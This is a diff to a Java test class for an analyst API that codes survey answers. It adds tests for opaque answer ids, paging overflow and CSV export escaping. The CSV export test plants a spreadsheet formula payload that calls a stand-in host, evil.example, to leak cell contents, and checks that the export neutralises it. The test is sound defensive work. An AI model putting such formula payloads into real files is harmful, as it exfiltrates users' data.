@@ -160,7 +160,7 @@ class CodingServiceTest {
                 api.decide(ANALYST, id, "approve", "traffic_mobility"),
                 api.decide(ANALYST, id, "add", "not a theme!"),
                 api.decide(ANALYST, "no-such-answer", "add", "housing"),
-                api.post("/api/analyst/answers/" + id + "/decisions", ANALYST, "{not json"),
+                api.post("/api/analyst/answers/" + api.ref(id) + "/decisions", ANALYST, "{not json"),
                 api.get("/api/analyst/answers?size=1000", ANALYST),
                 api.get("/api/analyst/answers?page=x", ANALYST),
                 api.get("/api/analyst/export?format=xml", ANALYST),
@@ -238,9 +238,9 @@ class CodingServiceTest {
         }
         assertEquals(decisionsBefore, service.db().getCollection("codings").find(eq("questionnaire", "wonen"))
                 .into(new ArrayList<>()));
-        JsonNode first = api.get("/api/analyst/answers/" + ids.get(0), ANALYST).json();
+        JsonNode first = api.get("/api/analyst/answers/" + api.ref(ids.get(0)), ANALYST).json();
         assertTrue(first.path("themes").toString().contains("children_school"), first.toString());
-        JsonNode sixth = api.get("/api/analyst/answers/" + ids.get(5), ANALYST).json();
+        JsonNode sixth = api.get("/api/analyst/answers/" + api.ref(ids.get(5)), ANALYST).json();
         assertFalse(sixth.path("themes").toString().contains("green_space"), sixth.toString());
 
         // a new answer is coded by the new version
@@ -269,7 +269,7 @@ class CodingServiceTest {
             }
             assertEquals(2, records.size(), r.body());
             Answer first = records.get(0);
-            assertEquals(a, first.id());
+            assertEquals(api.ref(a), first.id());
             assertEquals("sim-export-1", first.respondent(), "pseudonymous respondent id");
             assertEquals("Meer bankjes om elkaar te ontmoeten.", first.text());
             assertEquals("noord", first.segments().get("area"));
@@ -306,5 +306,65 @@ class CodingServiceTest {
         assertTrue(j.path("segments").path("area").has("noord"), r.body());
         assertTrue(j.path("segments").has("language"), r.body());
         assertTrue(j.path("curve").isArray());
+    }
+
+    @Test
+    void answerIdsShowNoRespondentAndStillFindTheAnswer() throws Exception {
+        String stored = Api.simulate(service, "sim-opaque-7f3a", "opaque", "Meer licht in het park.", "noord",
+                Instant.now());
+        Harness.await("coded", WAIT, () -> Api.coded(service, stored));
+        JsonNode listed = api.get("/api/analyst/answers?questionnaire=opaque", ANALYST).json().path("answers").get(0);
+        String id = listed.path("id").asText();
+        assertFalse(id.contains("sim-opaque") || id.contains("opaque:") || id.contains(":"), id);
+        assertEquals(id, api.get("/api/analyst/answers?questionnaire=opaque", ANALYST).json().path("answers").get(0)
+                .path("id").asText(), "the same answer keeps its id");
+        Api.Reply one = api.get("/api/analyst/answers/" + id, ANALYST);
+        assertEquals(200, one.status(), one.body());
+        assertEquals("Meer licht in het park.", one.json().path("text").asText());
+        Api.Reply decided = api.post("/api/analyst/answers/" + id + "/decisions", ANALYST,
+                "{\"action\":\"add\",\"theme\":\"safety\"}");
+        assertEquals(201, decided.status(), decided.body());
+        assertEquals(id, decided.json().path("id").asText());
+        // the stored id, and a reference with one character changed, are not ids of the API
+        assertEquals(404, api.get("/api/analyst/answers/" + stored, ANALYST).status());
+        char last = id.charAt(id.length() - 1);
+        assertEquals(404, api.get("/api/analyst/answers/" + id.substring(0, id.length() - 1) + (last == 'A' ? 'B' : 'A'),
+                ANALYST).status());
+        for (String format : List.of("jsonl", "csv")) {
+            String body = api.get("/api/analyst/export?questionnaire=opaque&format=" + format, ANALYST).body();
+            assertFalse(body.contains(stored), body);
+            assertTrue(body.contains(id), body);
+        }
+    }
+
+    @Test
+    void pagingBeyondWhatAnIntHoldsIsABadRequestWithAReason() {
+        for (String paging : List.of("page=2147483647&size=200", "page=10737419&size=200", "page=50001&size=200")) {
+            Api.Reply r = api.get("/api/analyst/answers?" + paging, ANALYST);
+            assertEquals(400, r.status(), paging + ": " + r.body());
+            assertTrue(r.json().path("error").asText().contains("page × size"), r.body());
+        }
+        Api.Reply far = api.get("/api/analyst/answers?page=50000&size=200", ANALYST);
+        assertEquals(200, far.status(), far.body());
+        assertEquals(0, far.json().path("answers").size());
+    }
+
+    @Test
+    void aFormulaAnswerIsExportedAsTextThatSpreadsheetsDoNotRun() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")";
+        String id = Api.simulate(service, "sim-formula", "formula", formula, "-3", Instant.now());
+        Harness.await("coded", WAIT, () -> Api.coded(service, id));
+        Api.Reply r = api.get("/api/analyst/export?questionnaire=formula&format=csv", ANALYST);
+        assertEquals(200, r.status(), r.body());
+        String row = r.body().split("\r\n")[1];
+        assertTrue(row.contains(",\"'=HYPERLINK("), row);
+        assertTrue(row.contains(",-3,"), "a number stays a number: " + row);
+        Path file = dataDir.resolve("formula.csv");
+        Files.writeString(file, r.body());
+        try (AnswerReader in = AnswerReader.open(file)) {
+            Answer back = in.iterator().next();
+            assertEquals(formula, back.text(), "our own reader takes the apostrophe off again");
+            assertEquals("-3", back.segments().get("area"));
+        }
     }
 }
